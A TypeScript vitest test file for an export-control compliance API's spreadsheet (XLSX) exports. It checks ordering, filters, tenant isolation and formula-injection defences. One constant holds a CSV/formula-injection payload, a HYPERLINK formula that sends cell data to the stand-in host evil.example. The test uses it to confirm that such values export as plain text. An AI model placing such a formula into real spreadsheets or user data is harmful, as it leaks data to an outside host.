import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '../support/client.js';
import { casesAcross, startCompany } from '../support/company.js';
import type { Company } from '../support/company.js';
import { bytesOf, listed, rowsOfWorkbook, XLSX } from '../support/read-workbook.js';
import { makeCaller } from '../support/world.js';

const MORE_THAN_A_PAGE = 230;
/** What spreadsheets run in a cell that is no text. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';

let company: Company;
let officer: Client;
let other: Client;
let cases: Awaited<ReturnType<typeof casesAcross>>;
let license: string;

beforeAll(async () => {
  company = await startCompany('2026-09-30');
  officer = company.officer;
  const { id: supplierId } = await company.service.admin.made<{ id: string }>('/v1/suppliers', {
    name: 'Another Company, Inc.',
    country: 'US',
  });
  other = await makeCaller(company.service, { name: 'Alex', role: 'compliance_officer', supplierId });
  cases = await casesAcross(officer);
  ({ id: license } = await officer.made<{ id: string }>('/v1/licenses', {
    regime: 'us-bis',
    number: 'D1000001',
    issuedOn: '2026-06-01',
    validUntil: '2030-06-03',
    lines: [
      {
        eccn: '3A001.a',
        description: 'converters',
        unit: 'each',
        quantity: '100',
        value: { amount: '1000.00', currency: 'USD' },
      },
    ],
    parties: [{ role: 'end_user', name: 'Nordlicht Optik GmbH', country: 'DE' }],
  }));
  await officer.made(`/v1/licenses/${license}/shipments`, {
    lines: [{ line: 1, quantity: '3', value: { amount: '30.00', currency: 'USD' } }],
    shippedOn: '2026-09-01',
    itn: 'X20260901123456',
  });
});
afterAll(() => company.service.close());

const column = (rows: readonly ReadonlyMap<string, unknown>[], name: string) =>
  rows.map((row) => row.get(name));

describe('a list as a workbook', () => {
  it('has the rows of the list in its order, days as days and amounts as numbers', async () => {
    await officer.made('/v1/applications', {
      reference: 'PO-worth',
      needBy: '2026-12-24',
      valueAtStake: { amount: '1250000.50', currency: 'USD' },
      orders: ['SO-1', 'SO-2'],
    });
    const rows = await listed(officer, '/v1/applications?format=xlsx');
    const { data } = await officer.read<{ data: { id: string }[] }>('/v1/applications');
    expect(column(rows, 'id')).toEqual(data.map(({ id }) => id));
    const worth = rows.find((row) => row.get('reference') === 'PO-worth');
    expect(worth?.get('needBy')).toEqual({ day: '2026-12-24' });
    expect(worth?.get('valueAtStake')).toBe(1_250_000.5);
    expect(worth?.get('orders')).toBe('SO-1; SO-2');
    expect(rows.find((row) => row.get('id') === cases.late)?.get('number')).toBe('Z1234567');
  });

  it('is asked for by Accept too, and named as the list', async () => {
    const { status, headers, body } = await bytesOf(officer, '/v1/parties', XLSX);
    expect(status).toBe(200);
    expect(headers['content-type']).toBe(XLSX);
    expect(headers['content-disposition']).toBe('attachment; filename="parties.xlsx"');
    expect((await rowsOfWorkbook(body as Buffer))[0]).toContain('name');
    const json = await officer.get('/v1/parties').set('Accept', 'application/json, */*');
    expect(json.headers['content-type']).toContain('application/json');
  });

  it('goes by the filters of the list', async () => {
    expect(column(await listed(officer, '/v1/applications?regime=uk-siel&format=xlsx'), 'regime')).toEqual([
      'uk-siel',
      'uk-siel',
    ]);
    const filter = `status=draft&q=UK-8&format=xlsx`;
    expect(column(await listed(officer, `/v1/applications?${filter}`), 'id')).toEqual([cases.draft]);
    const refused = await officer.get('/v1/applications?status=nonsense&format=xlsx');
    expect([refused.status, refused.headers['content-type']]).toEqual([
      422,
      expect.stringContaining('application/problem+json'),
    ]);
  });

  it('is the whole list: a part of it is not asked for', async () => {
    for (const part of ['limit=10', 'cursor=WyJhIl0']) {
      const { status, body } = await officer.get(`/v1/duties?format=xlsx&${part}`);
      expect([status, body.errors]).toEqual([
        422,
        [expect.objectContaining({ pointer: `/${part.split('=')[0]}` })],
      ]);
    }
  });

  it('runs nothing: what begins as a formula is a text', async () => {
    for (const begins of [FORMULA, '+1', '-1', '@SUM(A1)'])
      await other.made('/v1/parties', { name: begins, country: 'DE', kind: 'organization' });
    // A formula would be read as what it came to, or as one without a value, which `listed` refuses.
    const rows = await listed(other, '/v1/parties?format=xlsx');
    expect(column(rows, 'name').sort()).toEqual([FORMULA, '+1', '-1', '@SUM(A1)'].sort());
  });

  it('stays behind the wall of its company on every page', async () => {
    const make = (place: number) =>
      officer.made('/v1/parties', { name: `Buyer ${place}`, country: 'FR', kind: 'organization' });
    await Promise.all(Array.from({ length: MORE_THAN_A_PAGE }, (_, place) => make(place)));
    const names = column(await listed(officer, '/v1/parties?format=xlsx'), 'name');
    expect(names).not.toContain(FORMULA);
    expect(names.filter((name) => String(name).startsWith('Buyer '))).toHaveLength(MORE_THAN_A_PAGE);
    expect(column(await listed(other, '/v1/applications?format=xlsx'), 'id')).toEqual([]);
    const { status } = await other.get(`/v1/licenses/${license}/shipments?format=xlsx`);
    expect(status).toBe(404);
  });

  it('is there of each list that people work with', async () => {
    await officer.made('/v1/duties', {
      licenseId: license,
      kind: 'report',
      text: 'Report.',
      due: { on: '2026-12-01' },
    });
    const products = `/v1/suppliers/${company.supplierId}/products`;
    await officer.made(products, {
      name: 'Converter',
      eccn: '3A001.a',
      reasonsForControl: ['NS'],
      unit: 'each',
      unitPrice: { amount: '10.00', currency: 'USD' },
    });
    const contacts = `/v1/applications/${cases.late}/contacts`;
    await officer.made(contacts, {
      on: '2026-09-01',
      channel: 'telephone',
      direction: 'to_authority',
      with: 'the licensing officer',
      said: 'An answer within two weeks.',
    });
    const first = async (path: string, ...names: string[]) => {
      const [row] = await listed(officer, `${path}format=xlsx`);
      return names.map((name) => row?.get(name));
    };
    expect(await first('/v1/licenses?', 'number', 'remaining', 'issuedOn')).toEqual([
      'D1000001',
      // With the shipping tolerance of 15 CFR 750.11(b).
      '97 each; 1070 USD',
      { day: '2026-06-01' },
    ]);
    expect(await first(`/v1/licenses/${license}/shipments?`, 'number', 'quantities', 'values')).toEqual([
      1,
      '3',
      '30.00 USD',
    ]);
    expect(await first('/v1/duties?origin=person&', 'text', 'dueOn')).toEqual([
      'Report.',
      { day: '2026-12-01' },
    ]);
    expect(await first(`${products}?`, 'eccn', 'unitPrice')).toEqual(['3A001.a', 10]);
    expect(await first(`${contacts}?`, 'on', 'said')).toEqual([
      { day: '2026-09-01' },
      'An answer within two weeks.',
    ]);
    for (const empty of ['/v1/entity-list/entries?', '/v1/screening-alerts?'])
      expect(await listed(officer, `${empty}format=xlsx`)).toEqual([]);
  });
});
